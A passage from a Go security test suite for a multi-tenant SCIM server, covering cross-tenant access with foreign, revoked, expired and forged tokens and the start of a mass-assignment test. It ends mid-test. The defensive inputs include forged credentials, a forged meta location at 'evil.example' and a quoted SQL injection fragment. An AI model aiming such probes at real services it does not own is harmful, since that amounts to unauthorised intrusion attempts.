package main

// The security suite (issue 8, item 4). Every test drives the real application of
// newHandler over loopback HTTP, on every database engine (dbtest.Each), and logs how
// many requests of each kind it tried. docs/SECURITY.md describes what is checked.
//
//   - TestSecurityCrossTenantMatrix: every SCIM route × method of the route table, with
//     another tenant's ids and with foreign, unknown, revoked, expired and malformed
//     credentials;
//   - TestSecurityMassAssignment: client-sent id, meta, groups, schemas and read-only
//     sub-attributes change nothing; password never comes back;
//   - TestSecurityInjectionCorpus: hostile strings in filters, sortBy, sortOrder,
//     attributes, excludedAttributes, startIndex, count and PATCH paths;
//   - TestSecurityUnicodeUniqueness: Unicode and case variants of userName and a group's
//     displayName cannot create duplicates.
//
// The requests of this file go through secSend, not the harness's client: hostile input
// is echoed in error details ("unknown attribute \"' UNION SELECT ...\""), so the check
// for leaked internals ignores markers that the request itself carried, and nothing here
// calls t.Fatal from a goroutine.

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"maps"
	"net/http"
	"net/http/httptest"
	"net/url"
	"reflect"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/labstack/echo/v4"
	"github.com/orgscim/orgscim/internal/dbtest"
	"github.com/orgscim/orgscim/orgs"
	"github.com/orgscim/orgscim/provisioning"
	"github.com/orgscim/orgscim/scim"
	"github.com/orgscim/orgscim/sqlstore"
	"golang.org/x/text/cases"
	"golang.org/x/text/unicode/norm"
)

const secGroupURN = "urn:ietf:params:scim:schemas:core:2.0:Group"

// ---------------------------------------------------------------------------------------
// Shared helpers

// secCounter counts what a test tried, by category, for the closing log line.
type secCounter struct {
	mu    sync.Mutex
	n     map[string]int
	order []string
}

func (c *secCounter) add(category string, n int) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.n == nil {
		c.n = map[string]int{}
	}
	if _, ok := c.n[category]; !ok {
		c.order = append(c.order, category)
	}
	c.n[category] += n
}

func (c *secCounter) get(category string) int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.n[category]
}

func (c *secCounter) log(t *testing.T, title string) {
	t.Helper()
	c.mu.Lock()
	defer c.mu.Unlock()
	parts := make([]string, 0, len(c.order))
	for _, k := range c.order {
		parts = append(parts, fmt.Sprintf("%s=%d", k, c.n[k]))
	}
	t.Logf("%s: %s", title, strings.Join(parts, ", "))
}

// secReq is one request of the suite. body is nil, []byte sent verbatim, or a value sent
// as JSON. auth is the whole Authorization header; empty sends none.
type secReq struct {
	method string
	url    string
	auth   string
	body   any
	header []string // more headers, name, value pairs
}

func secBearer(token string) string { return "Bearer " + token }

// encodeJSON encodes v as the SCIM clients do, without HTML escaping.
func secEncodeJSON(v any) []byte {
	var buf bytes.Buffer
	enc := json.NewEncoder(&buf)
	enc.SetEscapeHTML(false)
	if err := enc.Encode(v); err != nil {
		panic(err)
	}
	return bytes.TrimRight(buf.Bytes(), "\n")
}

func (r secReq) bodyBytes() []byte {
	switch b := r.body.(type) {
	case nil:
		return nil
	case []byte:
		return b
	case string:
		return []byte(b)
	default:
		return secEncodeJSON(b)
	}
}

// text is everything the request carried, decoded, for telling a reflected value from a
// leaked one.
func (r secReq) text() string {
	u := r.url
	if d, err := url.QueryUnescape(u); err == nil {
		u += " " + d
	}
	if d, err := url.PathUnescape(r.url); err == nil {
		u += " " + d
	}
	return r.method + " " + u + " " + string(r.bodyBytes())
}

// secSend sends r and decodes a JSON body. Transport failures are reported with Errorf
// (Status -1), so it is safe in goroutines.
func secSend(t *testing.T, r secReq) *reply {
	t.Helper()
	var body io.Reader
	raw := r.bodyBytes()
	if raw != nil {
		body = bytes.NewReader(raw)
	}
	req, err := http.NewRequest(r.method, r.url, body)
	if err != nil {
		t.Errorf("%s %s: %v", r.method, r.url, err)
		return &reply{Status: -1}
	}
	if r.auth != "" {
		req.Header.Set("Authorization", r.auth)
	}
	if raw != nil {
		req.Header.Set("Content-Type", scimContentType)
	}
	for i := 0; i+1 < len(r.header); i += 2 {
		req.Header.Set(r.header[i], r.header[i+1])
	}
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Errorf("%s %s: %v", r.method, r.url, err)
		return &reply{Status: -1}
	}
	defer res.Body.Close()
	out, err := io.ReadAll(res.Body)
	if err != nil {
		t.Errorf("%s %s: read: %v", r.method, r.url, err)
		return &reply{Status: -1}
	}
	rep := &reply{Status: res.StatusCode, Header: res.Header, Raw: out}
	if len(bytes.TrimSpace(out)) > 0 {
		dec := json.NewDecoder(bytes.NewReader(out))
		dec.UseNumber()
		if err := dec.Decode(&rep.JSON); err != nil {
			t.Errorf("%s %s: %d body is not a JSON object: %v\n%s", r.method, r.url, res.StatusCode, err, out)
		}
	}
	return rep
}

// secCheck asserts what holds of every answer: no 5xx, no internals that the request did
// not itself carry, no password attribute, and a SCIM error document for every error.
func secCheck(t *testing.T, what string, r secReq, rep *reply) {
	t.Helper()
	if rep.Status < 0 {
		return
	}
	if rep.Status >= 500 && rep.Status != http.StatusNotImplemented { // 501: a deliberate answer, not a failure
		t.Errorf("%s: %d: %s", what, rep.Status, secShort(rep.Raw))
	}
	sent := r.text()
	for _, m := range leaksIn(string(rep.Raw)) {
		if !strings.Contains(sent, m) {
			t.Errorf("%s: body leaks %q: %s", what, m, secShort(rep.Raw))
		}
	}
	if secHasKey(rep.JSON, "password") {
		t.Errorf("%s: the answer holds a password attribute: %s", what, secShort(rep.Raw))
	}
	if rep.Status >= 400 {
		checkErrorDoc(t, what, rep)
	}
}

// secHasKey reports whether any object in v has the key, ignoring case.
func secHasKey(v any, key string) bool {
	switch v := v.(type) {
	case map[string]any:
		for k, e := range v {
			if strings.EqualFold(k, key) || secHasKey(e, key) {
				return true
			}
		}
	case []any:
		for _, e := range v {
			if secHasKey(e, key) {
				return true
			}
		}
	}
	return false
}

func secShort(b []byte) string {
	if len(b) > 600 {
		return string(b[:600]) + "…"
	}
	return string(b)
}

func secStr(v any) string { s, _ := v.(string); return s }

func secTotal(t *testing.T, what string, rep *reply) int {
	t.Helper()
	n, ok := rep.JSON["totalResults"].(json.Number)
	if !ok {
		t.Errorf("%s: no totalResults: %s", what, secShort(rep.Raw))
		return -1
	}
	i, _ := n.Int64()
	return int(i)
}

func secResourceIDs(rep *reply) []string {
	var out []string
	list, _ := rep.JSON["Resources"].([]any)
	for _, e := range list {
		out = append(out, secStr(at(e, "id")))
	}
	sort.Strings(out)
	return out
}

func secMembers(doc map[string]any) []string {
	var out []string
	list, _ := doc["members"].([]any)
	for _, m := range list {
		out = append(out, secStr(at(m, "value")))
	}
	sort.Strings(out)
	return out
}

// newSecE2E is newE2E with the per-connection rate limit off: the suite sends thousands
// of requests per connection, and the limit has tests of its own.
func newSecE2E(t *testing.T, db *sqlstore.DB) *e2eEnv {
	t.Helper()
	start, _ := time.Parse(time.RFC3339, e2eClockStart)
	clock := &e2eClock{t: start}
	logs := &syncBuffer{}
	logger := slog.New(slog.NewJSONHandler(logs, nil))
	srv := httptest.NewServer(newHandler(db, logger, httpConfig{Now: clock.Now, Limits: scim.Limits{RateLimit: -1}}))
	t.Cleanup(srv.Close)
	return &e2eEnv{t: t, db: db, srv: srv, dir: &orgs.Directory{Store: db.Orgs(), Now: clock.Now}, logs: logs}
}

// secConn is one connection as the suite addresses it.
type secConn struct {
	srv   string // the server's base URL
	slug  string
	token string
	c     *scimClient
}

func secConnect(env *e2eEnv, slug, idp string) *secConn {
	c := env.connect(slug, idp)
	return &secConn{srv: env.srv.URL, slug: slug, token: c.token, c: c}
}

func (s *secConn) url(path string) string { return s.srv + scim.Prefix + s.slug + path }

// do sends a request with the connection's token and checks the invariants.
func (s *secConn) do(t *testing.T, method, path string, body any, header ...string) *reply {
	t.Helper()
	r := secReq{method: method, url: s.url(path), auth: secBearer(s.token), body: body, header: header}
	rep := secSend(t, r)
	secCheck(t, method+" "+path, r, rep)
	return rep
}

// want asserts a status and returns the reply.
func (s *secConn) want(t *testing.T, status int, method, path string, body any, header ...string) *reply {
	t.Helper()
	rep := s.do(t, method, path, body, header...)
	if rep.Status != status {
		t.Errorf("%s %s: status %d, want %d: %s", method, path, rep.Status, status, secShort(rep.Raw))
	}
	return rep
}

func (s *secConn) list(t *testing.T, endpoint string, params ...string) *reply {
	t.Helper()
	q := url.Values{}
	for i := 0; i+1 < len(params); i += 2 {
		q.Set(params[i], params[i+1])
	}
	return s.do(t, "GET", endpoint+"?"+q.Encode(), nil)
}

func (s *secConn) count(t *testing.T, endpoint string) int {
	t.Helper()
	rep := s.list(t, endpoint, "count", "0")
	if rep.Status != http.StatusOK {
		t.Fatalf("count %s: %d %s", endpoint, rep.Status, rep.Raw)
	}
	return secTotal(t, "count "+endpoint, rep)
}

func (s *secConn) createUser(t *testing.T, user map[string]any) map[string]any {
	t.Helper()
	if _, ok := user["schemas"]; !ok {
		user["schemas"] = []string{userSchemaURN}
	}
	rep := s.do(t, "POST", "/Users", user)
	if rep.Status != http.StatusCreated {
		t.Fatalf("create user: %d %s", rep.Status, rep.Raw)
	}
	return rep.JSON
}

func (s *secConn) createGroup(t *testing.T, name string, members ...string) map[string]any {
	t.Helper()
	ms := []any{}
	for _, m := range members {
		ms = append(ms, map[string]any{"value": m})
	}
	rep := s.do(t, "POST", "/Groups", map[string]any{"schemas": []string{secGroupURN}, "displayName": name, "members": ms})
	if rep.Status != http.StatusCreated {
		t.Fatalf("create group: %d %s", rep.Status, rep.Raw)
	}
	return rep.JSON
}

// get reads a resource, failing the test unless it is there.
func (s *secConn) get(t *testing.T, path string) map[string]any {
	t.Helper()
	rep := s.do(t, "GET", path, nil)
	if rep.Status != http.StatusOK {
		t.Fatalf("GET %s: %d %s", path, rep.Status, rep.Raw)
	}
	return rep.JSON
}

func secPatch(ops ...map[string]any) map[string]any { return patchBody(ops...) }

// ---------------------------------------------------------------------------------------
// 1. Cross-tenant matrix

// secRoute is one SCIM route and method of the route table, its path relative to the
// connection root ("/Users/:id").
type secRoute struct {
	method     string
	path       string
	notAllowed bool // the 405 answer methodNotAllowed registers for a method the path lacks
	params     bool // the path names a resource (":id") or is the catch-all
	// notImplemented marks /Bulk, answered 501 by design (ServiceProviderConfig says
	// bulk.supported is false) to every authenticated caller.
	notImplemented bool
}

// secSCIMRoutes enumerates the SCIM routes of the running application. The catch-all
// routes that echo adds for a group (so that authentication runs for unknown paths too)
// are tried with every method.
func secSCIMRoutes(e *echo.Echo) []secRoute {
	root := scim.Prefix + ":conn"
	seen := map[string]bool{}
	var out []secRoute
	for _, r := range e.Routes() {
		if r.Path != root && !strings.HasPrefix(r.Path, root+"/") {
			continue
		}
		rel := r.Path[len(root):]
		methods := []string{r.Method}
		if r.Method == echo.RouteNotFound {
			methods = []string{http.MethodGet, http.MethodPost, http.MethodPut, http.MethodPatch, http.MethodDelete}
		}
		for _, m := range methods {
			key := m + " " + rel
			if seen[key] {
				continue
			}
			seen[key] = true
			out = append(out, secRoute{
				method:         m,
				path:           rel,
				notAllowed:     strings.Contains(r.Name, "methodNotAllowed"),
				params:         strings.Contains(rel, "/:") || strings.Contains(rel, "*") || rel == "",
				notImplemented: rel == "/Bulk",
			})
		}
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].path != out[j].path {
			return out[i].path < out[j].path
		}
		return out[i].method < out[j].method
	})
	return out
}

// secIDs are the resource ids a request may name.
type secIDs struct{ user, group string }

// secFill substitutes id for every parameter of the path; the catch-all becomes an
// unknown endpoint naming the id.
func secFill(path, id string) string {
	if path == "" {
		return ""
	}
	parts := strings.Split(path, "/")
	for i, p := range parts {
		switch {
		case strings.HasPrefix(p, ":"):
			parts[i] = id
		case p == "*":
			parts[i] = "NoSuchEndpoint/" + id
		}
	}
	return strings.Join(parts, "/")
}

// secMatrixRequest builds the request of one route for one set of ids: the path names
// them, and so do the filter and the body wherever a resource may refer to another
// (members, groups, id filters).
func secMatrixRequest(rt secRoute, id string, refs secIDs, n int) (path string, body any) {
	path = secFill(rt.path, id)
	isUsers := strings.HasPrefix(rt.path, "/Users")
	isGroups := strings.HasPrefix(rt.path, "/Groups")
	userFilter := fmt.Sprintf(`id eq %q or groups.value eq %q or userName pr`, refs.user, refs.group)
	groupFilter := fmt.Sprintf(`id eq %q or members.value eq %q or members.value eq %q`, refs.group, refs.user, refs.group)
	userBody := map[string]any{
		"schemas": []string{userSchemaURN}, "userName": fmt.Sprintf("planted-%d", n), "displayName": "Planted",
		"groups": []any{map[string]any{"value": refs.group}},
	}
	groupBody := map[string]any{
		"schemas": []string{secGroupURN}, "displayName": fmt.Sprintf("planted-group-%d", n),
		"members": []any{map[string]any{"value": refs.user}, map[string]any{"value": refs.group, "type": "Group"}},
	}
	switch rt.method {
	case http.MethodGet:
		if !rt.params && rt.path == "/Users" {
			// userName pr matches every user of the connection: the answer may hold only
			// the requester's own users.
			path += "?filter=" + url.QueryEscape(userFilter)
		}
		if !rt.params && rt.path == "/Groups" {
			path += "?filter=" + url.QueryEscape(groupFilter)
		}
		if rt.params && (isUsers || isGroups) {
			path += "?attributes=id,meta"
		}
		return path, nil
	case http.MethodDelete:
		return path, nil
	case http.MethodPost:
		switch {
		case strings.HasSuffix(rt.path, "/.search") && isGroups:
			return path, map[string]any{"schemas": []string{searchRequestURN}, "filter": groupFilter}
		case strings.HasSuffix(rt.path, "/.search"):
			return path, map[string]any{"schemas": []string{searchRequestURN}, "filter": userFilter}
		case isGroups:
			return path, groupBody
		case isUsers:
			return path, userBody
		}
		return path, map[string]any{"schemas": []string{userSchemaURN}, "userName": fmt.Sprintf("planted-%d", n)}
	case http.MethodPut:
		if isGroups {
			return path, groupBody
		}
		return path, userBody
	case http.MethodPatch:
		if isGroups {
			return path, secPatch(
				op("add", "members", []any{map[string]any{"value": refs.user}, map[string]any{"value": refs.group}}),
				op("replace", "displayName", fmt.Sprintf("hijacked-%d", n)))
		}
		return path, secPatch(op("replace", "displayName", "hijacked"), op("replace", "active", false))
	}
	return path, nil
}

// secPrincipal is who sends the requests of one pass over the matrix.
type secPrincipal struct {
	name   string
	slug   string   // the URL's connection segment
	auth   string   // Authorization header; "" sends none
	ids    []secIDs // the resources the requests name
	denied bool     // every request must be 401
}

func TestSecurityCrossTenantMatrix(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, db *sqlstore.DB) {
		env := newSecE2E(t, db)
		ctx := context.Background()
		a := secConnect(env, "tenant-a", "okta")
		b := secConnect(env, "tenant-b", "okta")

		// A's resources carry identifiers distinctive enough to search any body for.
		ua := a.createUser(t, map[string]any{
			"userName": "alice.secret@tenant-a.example", "displayName": "Alice Secretname", "externalId": "ext-a-7f3c91",
			"emails":      []any{map[string]any{"value": "alice.private@tenant-a.example", "primary": true}},
			enterpriseURN: map[string]any{"department": "Tenant-A-Skunkworks"},
		})
		idsA := secIDs{user: secStr(ua["id"])}
		ga := a.createGroup(t, "Tenant A Secret Group", idsA.user)
		idsA.group = secStr(ga["id"])
		ub := b.createUser(t, map[string]any{"userName": "bob@tenant-b.example", "displayName": "Bob B"})
		idsB := secIDs{user: secStr(ub["id"])}
		gb := b.createGroup(t, "Tenant B Group", idsB.user)
		idsB.group = secStr(gb["id"])

		secrets := []string{idsA.user, idsA.group, "alice.secret", "Alice Secretname", "ext-a-7f3c91", "alice.private",
			"Tenant-A-Skunkworks", "Tenant A Secret Group", a.c.conn.ID, a.c.conn.OrgID, a.token, a.token[:12]}
		beforeA := map[string]map[string]any{
			"/Users/" + idsA.user: a.get(t, "/Users/"+idsA.user), "/Groups/" + idsA.group: a.get(t, "/Groups/"+idsA.group),
		}
		beforeB := map[string]map[string]any{
			"/Users/" + idsB.user: b.get(t, "/Users/"+idsB.user), "/Groups/" + idsB.group: b.get(t, "/Groups/"+idsB.group),
		}

		// A second token of A that is revoked, and a third that has expired (the server's
		// clock runs in 2030).
		tok, revoked, err := env.dir.IssueToken(ctx, "tenant-a", nil)
		if err != nil {
			t.Fatal(err)
		}
		if rep := secSend(t, secReq{method: "GET", url: a.url("/Users"), auth: secBearer(revoked)}); rep.Status != http.StatusOK {
			t.Fatalf("the second token does not work before its revocation: %d", rep.Status)
		}
		if err := env.dir.RevokeToken(ctx, "tenant-a", tok.ID); err != nil {
			t.Fatal(err)
		}
		past := &orgs.Directory{Store: db.Orgs(), Now: func() time.Time { return time.Date(2020, 1, 1, 0, 0, 0, 0, time.UTC) }}
		dayLater := time.Date(2020, 1, 2, 0, 0, 0, 0, time.UTC)
		_, expired, err := past.IssueToken(ctx, "tenant-a", &dayLater)
		if err != nil {
			t.Fatal(err)
		}
		forged := a.token[:len(a.token)-1] + map[bool]string{true: "a", false: "b"}[!strings.HasSuffix(a.token, "a")]

		principals := []secPrincipal{
			{name: "B's token at B's URL naming A's resources", slug: b.slug, auth: secBearer(b.token), ids: []secIDs{idsA}},
			{name: "A's token at B's URL", slug: b.slug, auth: secBearer(a.token), ids: []secIDs{idsA, idsB}, denied: true},
			{name: "B's token at A's URL", slug: a.slug, auth: secBearer(b.token), ids: []secIDs{idsA}, denied: true},
			{name: "A's token at an unknown connection", slug: "no-such-tenant", auth: secBearer(a.token), ids: []secIDs{idsA}, denied: true},
			{name: "A's revoked token", slug: a.slug, auth: secBearer(revoked), ids: []secIDs{idsA}, denied: true},
			{name: "A's expired token", slug: a.slug, auth: secBearer(expired), ids: []secIDs{idsA}, denied: true},
			{name: "A's token with a forged checksum", slug: a.slug, auth: secBearer(forged), ids: []secIDs{idsA}, denied: true},
			{name: "A's token as Basic credentials", slug: a.slug, auth: "Basic " + a.token, ids: []secIDs{idsA}, denied: true},
			{name: "no credentials", slug: a.slug, ids: []secIDs{idsA}, denied: true},
		}

		routes := secSCIMRoutes(env.srv.Config.Handler.(*echo.Echo))
		var counts secCounter
		var unauthorized []byte // the one 401 body every failure must share
		n := 0
		for _, rt := range routes {
			counts.add("route×method pairs", 1)
			if rt.notAllowed {
				counts.add("of which 405 by design", 1)
			}
			for _, p := range principals {
				for _, ids := range p.ids {
					targets := []string{""}
					if rt.params {
						targets = []string{ids.user, ids.group}
					}
					for _, id := range targets {
						n++
						path, body := secMatrixRequest(rt, id, ids, n)
						headers := [][]string{nil}
						if rt.method == http.MethodPut || rt.method == http.MethodPatch || rt.method == http.MethodDelete {
							headers = append(headers, []string{"If-Match", "*"})
						}
						for _, h := range headers {
							r := secReq{method: rt.method, url: b.srv + scim.Prefix + p.slug + path, auth: p.auth, body: body, header: h}
							what := fmt.Sprintf("[%s] %s %s", p.name, rt.method, path)
							rep := secSend(t, r)
							secCheck(t, what, r, rep)
							counts.add("requests", 1)
							secNoSecrets(t, what, r, rep, secrets)
							if p.denied {
								counts.add("answered 401", 1)
								secWantUnauthorized(t, what, rep, &unauthorized)
								continue
							}
							secWantOwn(t, what, rt, rep, &counts)
							if rt.params && !rt.notAllowed {
								// The answer for another tenant's id is the answer for an id
								// that exists nowhere.
								other := provisioning.NewID()
								r2 := r
								r2.url = strings.ReplaceAll(r.url, id, other)
								rep2 := secSend(t, r2)
								counts.add("requests", 1)
								counts.add("indistinguishability comparisons", 1)
								if rep2.Status != rep.Status || !bytes.Equal(bytes.ReplaceAll(rep.Raw, []byte(id), []byte("<id>")),
									bytes.ReplaceAll(rep2.Raw, []byte(other), []byte("<id>"))) {
									t.Errorf("%s: the answer tells A's id from an unknown one:\n%d %s\n%d %s", what,
										rep.Status, rep.Raw, rep2.Status, rep2.Raw)
								}
							}
						}
					}
				}
			}
		}

		// A's token changed nothing of B's.
		for path, want := range beforeB {
			if got := b.get(t, path); !reflect.DeepEqual(got, want) {
				t.Errorf("B's %s changed:\nbefore %v\nafter  %v", path, want, got)
			}
		}

		// B's own resources naming A's: the references are ignored, never followed.
		crossRefs := []struct {
			method, path string
			body         any
		}{
			{"PATCH", "/Groups/" + idsB.group, secPatch(op("add", "members", []any{map[string]any{"value": idsA.user}, map[string]any{"value": idsA.group}}))},
			{"PATCH", "/Groups/" + idsB.group, secPatch(op("replace", "", map[string]any{"members": []any{map[string]any{"value": idsA.user}}}))},
			{"PATCH", "/Groups/" + idsB.group, secPatch(op("remove", fmt.Sprintf(`members[value eq %q]`, idsA.user), nil))},
			{"PUT", "/Groups/" + idsB.group, map[string]any{"schemas": []string{secGroupURN}, "displayName": "Tenant B Group",
				"members": []any{idsA.user, map[string]any{"value": idsA.group}, map[string]any{"value": idsB.user}}}},
			{"PATCH", "/Users/" + idsB.user, secPatch(op("add", "groups", []any{map[string]any{"value": idsA.group}}))},
			{"GET", "/Users?filter=" + url.QueryEscape(fmt.Sprintf(`groups.value eq %q`, idsA.group)), nil},
			{"GET", "/Groups?filter=" + url.QueryEscape(fmt.Sprintf(`members.value eq %q or id eq %q`, idsA.user, idsA.group)), nil},
			{"GET", "/Users?filter=" + url.QueryEscape(`emails.value co "tenant-a" or urn:ietf:params:scim:schemas:extension:enterprise:2.0:User:department eq "Tenant-A-Skunkworks"`), nil},
			{"GET", "/Groups?filter=" + url.QueryEscape(`displayName sw "Tenant A"`), nil},
		}
		for _, cr := range crossRefs {
			r := secReq{method: cr.method, url: b.url(cr.path), auth: secBearer(b.token), body: cr.body}
			rep := secSend(t, r)
			what := "[B's resources naming A's] " + cr.method + " " + cr.path
			secCheck(t, what, r, rep)
			secNoSecrets(t, what, r, rep, secrets)
			counts.add("requests", 1)
			counts.add("cross-references from B's own resources", 1)
			if rep.Status >= 300 && !(cr.method == "PATCH" && strings.HasPrefix(cr.path, "/Users") && rep.Status == http.StatusBadRequest) {
				t.Errorf("%s: %d %s", what, rep.Status, rep.Raw)
			}
			if rep.JSON["totalResults"] != nil && secTotal(t, what, rep) != 0 {
				t.Errorf("%s: B's filter finds A's resources: %s", what, rep.Raw)
			}
		}
		if got := secMembers(b.get(t, "/Groups/"+idsB.group)); !reflect.DeepEqual(got, []string{idsB.user}) {
			t.Errorf("B's group has members %v, want only B's user", got)
		}
		if g := b.get(t, "/Users/"+idsB.user)["groups"]; g != nil {
			for _, e := range g.([]any) {
				if secStr(at(e, "value")) != idsB.group {
					t.Errorf("B's user is in a group of A: %v", g)
				}
			}
		}

		// Nothing of A changed.
		for path, want := range beforeA {
			if got := a.get(t, path); !reflect.DeepEqual(got, want) {
				t.Errorf("A's %s changed:\nbefore %v\nafter  %v", path, want, got)
			}
		}
		if n := a.count(t, "/Users"); n != 1 {
			t.Errorf("A has %d users, want 1", n)
		}
		if n := a.count(t, "/Groups"); n != 1 {
			t.Errorf("A has %d groups, want 1", n)
		}
		if strings.Contains(env.logs.String(), a.token) || strings.Contains(env.logs.String(), revoked) {
			t.Errorf("a token reached the logs")
		}

		if pairs := counts.get("route×method pairs"); pairs < 20 {
			t.Errorf("the matrix has only %d route×method pairs", pairs)
		}
		counts.log(t, fmt.Sprintf("cross-tenant matrix (%d principals)", len(principals)))
	})
}

// secNoSecrets asserts that neither body nor headers carry one of A's identifiers that
// the request did not itself name.
func secNoSecrets(t *testing.T, what string, r secReq, rep *reply, secrets []string) {
	t.Helper()
	sent := r.text()
	var hdr strings.Builder
	for k, vs := range rep.Header {
		hdr.WriteString(k + ": " + strings.Join(vs, ",") + "\n")
	}
	for _, s := range secrets {
		if strings.Contains(sent, s) {
			continue
		}
		if bytes.Contains(rep.Raw, []byte(s)) || strings.Contains(hdr.String(), s) {
			t.Errorf("%s: the answer reveals %q of tenant A: %s", what, s, secShort(rep.Raw))
		}
	}
}

func secWantUnauthorized(t *testing.T, what string, rep *reply, canonical *[]byte) {
	t.Helper()
	if rep.Status != http.StatusUnauthorized {
		t.Errorf("%s: status %d, want 401: %s", what, rep.Status, secShort(rep.Raw))
		return
	}
	if h := rep.Header.Get("WWW-Authenticate"); !strings.HasPrefix(h, "Bearer") {
		t.Errorf("%s: 401 without a Bearer challenge (%q)", what, h)
	}
	if *canonical == nil {
		*canonical = rep.Raw
	} else if !bytes.Equal(*canonical, rep.Raw) {
		t.Errorf("%s: this 401 differs from the others, which tells failures apart:\n%s\n%s", what, rep.Raw, *canonical)
	}
}

// secWantOwn checks an answer to B's own token at B's URL naming A's resources.
func secWantOwn(t *testing.T, what string, rt secRoute, rep *reply, counts *secCounter) {
	t.Helper()
	switch {
	case rt.notAllowed:
		counts.add("answered 405", 1)
		if rep.Status != http.StatusMethodNotAllowed {
			t.Errorf("%s: status %d, want 405: %s", what, rep.Status, secShort(rep.Raw))
		}
	case rt.notImplemented:
		counts.add("answered 501", 1)
		if rep.Status != http.StatusNotImplemented {
			t.Errorf("%s: status %d, want 501: %s", what, rep.Status, secShort(rep.Raw))
		}
	case rt.params:
		counts.add("answered 404", 1)
		if rep.Status != http.StatusNotFound {
			t.Errorf("%s: status %d, want 404: %s", what, rep.Status, secShort(rep.Raw))
		}
	default:
		counts.add("answered as B's own collection", 1)
		if rep.Status < 200 || rep.Status >= 300 {
			t.Errorf("%s: status %d on B's own collection: %s", what, rep.Status, secShort(rep.Raw))
			return
		}
		// The group filter names only A's ids and must match nothing. The user filter also
		// says "userName pr", which B's own users match; that none of A's is among them is
		// secNoSecrets' check.
		if list, _ := rep.JSON["Resources"].([]any); strings.HasPrefix(rt.path, "/Groups") && len(list) > 0 {
			t.Errorf("%s: B's group filter naming A's ids matched %s", what, secShort(rep.Raw))
		}
		if rep.Status == http.StatusCreated {
			if rep.JSON["groups"] != nil {
				t.Errorf("%s: a created user is in groups %v", what, rep.JSON["groups"])
			}
			if ms := secMembers(rep.JSON); len(ms) != 0 {
				t.Errorf("%s: a created group has members of A %v", what, ms)
			}
		}
	}
}

// ---------------------------------------------------------------------------------------
// 2. Mass assignment

func TestSecurityMassAssignment(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, db *sqlstore.DB) {
		env := newSecE2E(t, db)
		ctx := context.Background()
		c := secConnect(env, "mass", "okta") // Okta's dialect: PATCH answers 200 with the resource
		var counts secCounter
		const pw = "Mass-Assign-Pw-6b1e"
		admins := c.createGroup(t, "Admins")
		adminsID := secStr(admins["id"])

		forgedMeta := map[string]any{
			"created": "2000-01-01T00:00:00Z", "lastModified": "2000-01-01T00:00:00Z", "version": `W/"999"`,
			"location": "https://evil.example/scim/v2/mass/Users/forged", "resourceType": "Group",
		}
		junkSchemas := []any{"urn:evil:schema", userSchemaURN, enterpriseURN, secGroupURN, errorSchemaURN, ""}
		forgedGroups := []any{map[string]any{"value": adminsID, "display": "Admins", "type": "direct"}}
		forgedManager := map[string]any{"value": "mgr-1", "displayName": "Forged Manager"}
		hostileUser := func(userName, id string) map[string]any {
			return map[string]any{
				"schemas": junkSchemas, "id": id, "userName": userName, "password": pw, "meta": forgedMeta,
				"groups":      forgedGroups,
				enterpriseURN: map[string]any{"department": "D", "manager": forgedManager},
			}
		}

		// checkUser asserts that every server-assigned part of doc is the server's.
		checkUser := func(what string, doc map[string]any, id, created string) {
			t.Helper()
			u, err := db.Users().User(ctx, c.c.conn.ID, id)
			if err != nil {
				t.Fatalf("%s: store: %v", what, err)
			}
			if doc["id"] != id {
				t.Errorf("%s: id %v, want %s", what, doc["id"], id)
			}
			want := map[string]any{
				"created": created, "lastModified": u.LastModified.UTC().Format("2006-01-02T15:04:05.000Z"),
				"version": fmt.Sprintf(`W/"%d"`, u.Version), "location": c.url("/Users/" + id), "resourceType": "User",
			}
			if !reflect.DeepEqual(doc["meta"], want) {
				t.Errorf("%s: meta %v, want %v", what, doc["meta"], want)
			}
			schemas := []string{userSchemaURN}
			if doc[enterpriseURN] != nil {
				schemas = append(schemas, enterpriseURN)
			}
			if got := strSlice(doc["schemas"]); !reflect.DeepEqual(got, schemas) {
				t.Errorf("%s: schemas %v, want %v", what, got, schemas)
			}
			if doc["groups"] != nil {
				t.Errorf("%s: the user is in groups %v", what, doc["groups"])
			}
			if at(doc, enterpriseURN, "manager", "displayName") != nil {
				t.Errorf("%s: the client set manager.displayName: %v", what, at(doc, enterpriseURN, "manager"))
			}
			for _, k := range []string{"id", "meta", "groups", "schemas", "password"} {
				if _, ok := u.Attributes[k]; ok {
					t.Errorf("%s: the stored document holds %q: %v", what, k, u.Attributes)
				}
			}
			if at(u.Attributes, enterpriseURN, "manager", "displayName") != nil {
				t.Errorf("%s: the stored manager has a displayName", what)
			}
			if secMembers(c.get(t, "/Groups/"+adminsID)) != nil {
				t.Errorf("%s: the user made itself a member of Admins", what)
			}
		}

		// POST and PUT.
		res := c.want(t, http.StatusCreated, "POST", "/Users", hostileUser("mass-1", "forged-id"))
		counts.add("POST", 1)
		id := secStr(res.JSON["id"])
		if id == "" || id == "forged-id" {
			t.Fatalf("the client chose the id: %s", res.Raw)
		}
		created := secStr(at(res.JSON, "meta", "created"))
		if created == forgedMeta["created"] {
			t.Errorf("the client chose meta.created")
		}
		checkUser("POST", res.JSON, id, created)
		if bytes.Contains(res.Raw, []byte(pw)) {
			t.Errorf("POST returns the password: %s", res.Raw)
		}
		counts.add("answers checked for the password", 1)
		checkUser("GET after POST", c.get(t, "/Users/"+id), id, created)
		c.want(t, http.StatusNotFound, "GET", "/Users/forged-id", nil)
		for i, forgedID := range []string{"forged-id-2", id + "-x", ""} {
			body := hostileUser("mass-1", forgedID)
			if i > 0 {
				delete(body, "password") // bcrypt is slow on purpose; once is enough
			}
			res = c.want(t, http.StatusOK, "PUT", "/Users/"+id, body)
			counts.add("PUT", 1)
			counts.add("answers checked for the password", 1)
			checkUser(fmt.Sprintf("PUT %d", i), res.JSON, id, created)
			if bytes.Contains(res.Raw, []byte(pw)) {
				t.Errorf("PUT returns the password: %s", res.Raw)
			}
		}

		// PATCH with a path naming a read-only attribute: refused, nothing changes.
		readOnly := []struct {
			path  string
			value any
		}{
			{"id", "forged-id"}, {"meta", forgedMeta}, {"meta.created", forgedMeta["created"]},
			{"meta.lastModified", forgedMeta["lastModified"]}, {"meta.version", forgedMeta["version"]},
